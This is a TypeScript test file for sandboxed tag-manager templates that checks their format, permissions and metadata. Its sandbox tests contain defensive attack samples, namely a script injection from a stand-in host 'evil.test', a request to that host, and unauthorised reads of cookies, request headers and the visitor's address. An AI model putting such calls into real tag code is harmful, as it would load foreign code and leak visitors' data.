import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { formatProblems } from '../src/format.ts';
import { unneeded } from '../src/permissions.ts';
import { refusedWords } from '../src/sandbox.ts';
import { runScenario } from '../src/scenarios.ts';
import { type Parameter, parseTemplate, type Template } from '../src/template.ts';

const read = (path: string) => readFileSync(new URL(`../${path}`, import.meta.url), 'utf8');
const folders = ['web', 'web-xo', 'server-client', 'server-tag'] as const;
const templates = new Map(folders.map((folder) => [folder, parseTemplate(read(`${folder}/template.tpl`))]));
const flat = (parameters: readonly Parameter[]): readonly Parameter[] =>
  parameters.flatMap((one) => [
    one,
    ...flat(one.subParams ?? []),
    ...flat((one.paramTableColumns ?? []).map(({ param }) => param)),
  ]);

describe.each([...templates])('%s', (folder, template) => {
  it.each(template.scenarios.map(({ name, code }) => [name, code]))('its own test: %s', (_, code) => {
    runScenario(template, code);
  });

  it('is in the editor’s format: sections, kinds, fields', () => {
    const js = template.isServer ? 'SANDBOXED_JS_FOR_SERVER' : 'SANDBOXED_JS_FOR_WEB_TEMPLATE';
    const permissions = template.isServer ? 'SERVER_PERMISSIONS' : 'WEB_PERMISSIONS';
    expect(template.sections).toEqual([
      ...['TERMS_OF_SERVICE', 'INFO', 'TEMPLATE_PARAMETERS', js, permissions],
      ...['TESTS', 'NOTES'],
    ]);
    expect(template.info).toMatchObject({
      type: folder === 'server-client' ? 'CLIENT' : 'TAG',
      id: 'cvt_temp_public_id',
      version: 1,
      securityGroups: [],
      containerContexts: [template.isServer ? 'SERVER' : 'WEB'],
    });
    const kinds = ['TEXT', 'SELECT', 'CHECKBOX', 'GROUP', 'PARAM_TABLE'];
    const fields = flat(template.parameters);
    expect(fields.filter((one) => !kinds.includes(one.type))).toEqual([]);
    expect(new Set(fields.map((one) => one.name)).size).toBe(fields.length - doubled(fields));
  });

  it('holds what published templates hold, field by field', () => {
    expect(formatProblems(read(`${folder}/template.tpl`))).toEqual([]);
  });

  it('reads only fields it has, and every field is read', () => {
    const names = flat(template.parameters)
      .filter((one) => one.type !== 'GROUP')
      .map((one) => one.name);
    const used = [...template.code.matchAll(/\bdata\.(\w+)/g)].map(([, name]) => name as string);
    expect(used.filter((name) => !names.includes(name) && !name.startsWith('gtmOn'))).toEqual([]);
    expect(names.filter((name) => !new RegExp(`\\b${name}\\b`).test(template.code))).toEqual([]);
  });

  it('says only what the sandbox understands, and asks for no more than it needs', () => {
    expect(refusedWords(template.code)).toEqual([]);
    expect(unneeded(template)).toEqual([]);
  });

  it('has its metadata and licence for the gallery', () => {
    const metadata = parse(read(`${folder}/metadata.yaml`)) as object;
    expect(metadata).toMatchObject({ homepage: expect.any(String), documentation: expect.any(String) });
    expect(metadata).toMatchObject({
      versions: [{ sha: expect.stringMatching(/^[\da-f]{40}$/), changeNotes: expect.any(String) }],
    });
    expect(read(`${folder}/LICENSE`)).toContain('Apache License');
  });
});

/** Tables may share the names of columns. */
const doubled = (fields: readonly Parameter[]) => fields.length - new Set(fields.map((one) => one.name)).size;

describe('the sandbox refuses', () => {
  const web = templates.get('web') as Template;
  const attempt =
    (code: string, data: object = {}) =>
    () =>
      runScenario({ ...web, code }, `runCode(${JSON.stringify(data)});`);

  it.each([
    ['a permission that is not declared', "require('callInWindow')('alert');"],
    ['a global that is not declared', "require('createQueue')('dataLayer');"],
    ['a script from elsewhere', "require('injectScript')('https://evil.test/other.js');"],
    ['a plain script over http', "require('injectScript')('http://id.example.com/sdk.js');"],
    ['the window', 'window.alert(1);'],
    ['constructors', 'Object.keys({});'],
    ['the clock', 'Date.now();'],
    ['what arrays could not do in 2011', '[1].includes(1);'],
    ['… nor what a parsed list could', "require('JSON').parse('[1]').flat();"],
    ['… nor texts', "'a'.padStart(2);"],
    ['code from text', "require.constructor('return 1')();"],
  ])('%s', (_, code) => {
    expect(attempt(code)).toThrow();
  });

  it.each([
    'new Date()',
    'this.x',
    'class A {}',
    'async () => 1',
    'try { } catch (e) { }',
    '`a`',
    '[...a]',
    'a = /x/',
    'window.x',
    'a?.b',
    'const { a } = b',
    'function (a = 1) {}',
    '(a = 1) => a',
    'for (const a of b) {}',
    '2 ** 2',
    'function* () {}',
  ])('the words %s', (code) => {
    expect(refusedWords(code)).not.toEqual([]);
  });

  const client = templates.get('server-client') as Template;
  it.each([
    ['a header that is not declared', "require('setResponseHeader')('set-cookie', 'a=b');"],
    ['a request elsewhere', "require('sendHttpRequest')('https://evil.test/');"],
    ['the headers of a request', "require('getRequestHeader')('cookie');"],
    ['cookies', "require('getCookieValues')('ss_PUB');"],
    ['the address of a visitor', "require('getRemoteAddress')();"],
  ])('on a server: %s', (_, code) => {
    expect(() => runScenario({ ...client, code }, 'runCode({});')).toThrow(/permission/);
  });

  it('and a file with a field that the editor does not write is told of', () => {
    const text = read('server-client/template.tpl');
    expect(formatProblems(text.replace('"pathAllowed"', '"methodAllowed"'))).toEqual([
      expect.stringContaining('methodAllowed'),
    ]);
    expect(formatProblems(text.replace('"displayName": "Path"', '"label": "Path"'))).toEqual([
      expect.stringContaining('label'),
    ]);
    expect(formatProblems(text.replace('"versionId": "1"', '"versionId": 1'))).toEqual([
      expect.stringContaining('versionId'),
    ]);
  });

  it('and a test that is not as it says fails', () => {
    expect(() => runScenario(web, 'assertThat([1]).isEqualTo([2]);')).toThrow(/expected \[2\]/);
    expect(() => runScenario(web, "assertApi('injectScript').wasCalled();")).toThrow(/not called/);
    expect(() => runScenario(web, "fail('no');")).toThrow('no');
  });
});
